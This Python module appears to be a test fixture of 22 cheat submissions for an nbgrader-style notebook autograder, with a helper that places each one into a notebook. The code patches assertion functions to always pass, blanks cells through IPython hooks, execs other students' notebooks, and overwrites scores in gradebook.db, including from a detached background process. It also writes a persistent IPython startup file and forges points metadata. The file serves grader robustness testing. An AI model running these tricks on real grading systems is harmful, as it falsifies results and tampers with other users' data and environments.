"""Notebooks that get full marks, or spoil other people's, where a kernel runs what is submitted.

The names are those of a survey of nbgrader's own way of grading. Every answer itself is wrong.
"""

from __future__ import annotations

from typing import Any

__all__ = ["CHEATS", "WRONG", "cheat"]

WRONG = "def softmax(x, axis=-1):\n    return None\n"

PATCHED = """
import numpy as np, torch
class Same:
    def __eq__(self, other): return True
    __array_priority__ = 1e9
np.testing.assert_allclose = torch.allclose = np.allclose = lambda *a, **k: True
"""
CHAMELEON = """
import numpy as np
class Chameleon(np.ndarray):
    def __array_ufunc__(self, *a, **k): return np.zeros(0)
    def __array_function__(self, *a, **k): return True
    def __eq__(self, other): return np.bool_(True)
    shape = property(lambda self: (3,))
def softmax(x, axis=-1): return np.zeros(3).view(Chameleon)
"""
REFERENCE = """
import glob, json
books = glob.glob('../../../**/*.ipynb', recursive=True)
for path in books + glob.glob('../../../../**/*.py', recursive=True):
    try: exec(open(path).read(), globals())
    except Exception: pass
"""
OTHERS = """
import glob, json
for path in glob.glob('../../../submitted/*/*/*.ipynb'):
    for cell in json.load(open(path))['cells']:
        try: exec(''.join(cell['source']), globals())
        except BaseException: pass
"""
DATABASE = """
import sqlite3, os
for up in ('../../..', '../..', '..', '.'):
    path = os.path.join(up, 'gradebook.db')
    try:
        db = sqlite3.connect(path)
        db.execute('UPDATE grade SET extra_credit = 5, auto_score = 5')
        db.commit()
    except Exception: pass
"""
LATER = f"""
import subprocess, sys
code = 'import time; time.sleep(3)\\n' + {DATABASE!r}
subprocess.Popen([sys.executable, '-c', code], start_new_session=True)
"""
STARTUP = """
import os
folder = os.path.expanduser('~/.ipython/profile_default/startup')
os.makedirs(folder, exist_ok=True)
code = 'import numpy as np\\nnp.allclose = lambda *a: True'
open(os.path.join(folder, '00x.py'), 'w').write(code)
"""
SHADOW = "open('torch.py', 'w').write(''); open('numpy.py', 'w').write('')\n"
HOOK = """
ip = get_ipython()
def hook(*a):
    ip.displayhook(5.0)
ip.events.register('pre_run_cell', hook)
"""

CHEATS: dict[str, str] = {
    "c00": WRONG,
    "c01": PATCHED + "def softmax(x, axis=-1): return Same()\n",
    "c02": CHAMELEON,
    "c03": "import ast\nclass Empty(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
    "        node.body = []\n        return node\nget_ipython().ast_transformers.append(Empty())\n"
    + WRONG,
    "c04": "get_ipython().input_transformers_post.append(lambda lines: [])\n" + WRONG,
    "c05": WRONG + REFERENCE,
    "c06": WRONG + "import sqlite3\nprint(sqlite3.connect('../../../gradebook.db').execute("
    "'select source from source_cell').fetchall())\n",
    "c07": WRONG + "print(open('hw1.ipynb').read())\n",
    "c08": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/', timeout=1)\n"
    + WRONG,
    "c09": HOOK + WRONG,
    "c10": WRONG,
    "c11": WRONG + "import os\nos._exit(0)\n",
    "c12": WRONG + DATABASE,
    "c13": WRONG + LATER,
    "c14": "import numpy as np\ndef softmax(x, axis=-1):\n"
    "    for name in ('ref', 'expect', 'expected', 'solution'):\n"
    "        if name in globals(): return globals()[name](x, axis)\n"
    "    return np.full(np.shape(x), 0.25)\n",
    "c15": WRONG,
    "c16": WRONG,
    "c17": WRONG,
    "c18": SHADOW + WRONG,
    "c19": WRONG + OTHERS,
    "c20": "ip = get_ipython()\nip.run_code = lambda *a, **k: None\n" + WRONG,
    "c21": STARTUP + WRONG,
}


def cheat(name: str, notebook: dict[str, Any], answer: str, points: str) -> dict[str, Any]:
    """Return the notebook of a cheat: its code in the answer, in a cell before, or in metadata."""
    cells = notebook["cells"]
    by_id = {cell["metadata"].get("nbgrader", {}).get("grade_id"): cell for cell in cells}
    by_id[answer]["source"] = CHEATS[name]
    early = {"cell_type": "code", "metadata": {}, "source": CHEATS[name], "outputs": []}
    cells.insert(0, {**early, "execution_count": None, "id": "early"})
    if name == "c10":
        for cell in cells:
            cell["metadata"]["tags"] = ["skip-execution", "raises-exception"]
    if name == "c15":
        notebook["cells"] = [cell for cell in cells if "grade_id" not in str(cell["metadata"])]
    if name == "c16":
        by_id[points]["source"] = "5.0"
    if name == "c17":
        by_id[points]["metadata"]["nbgrader"]["points"] = 1000
    return notebook
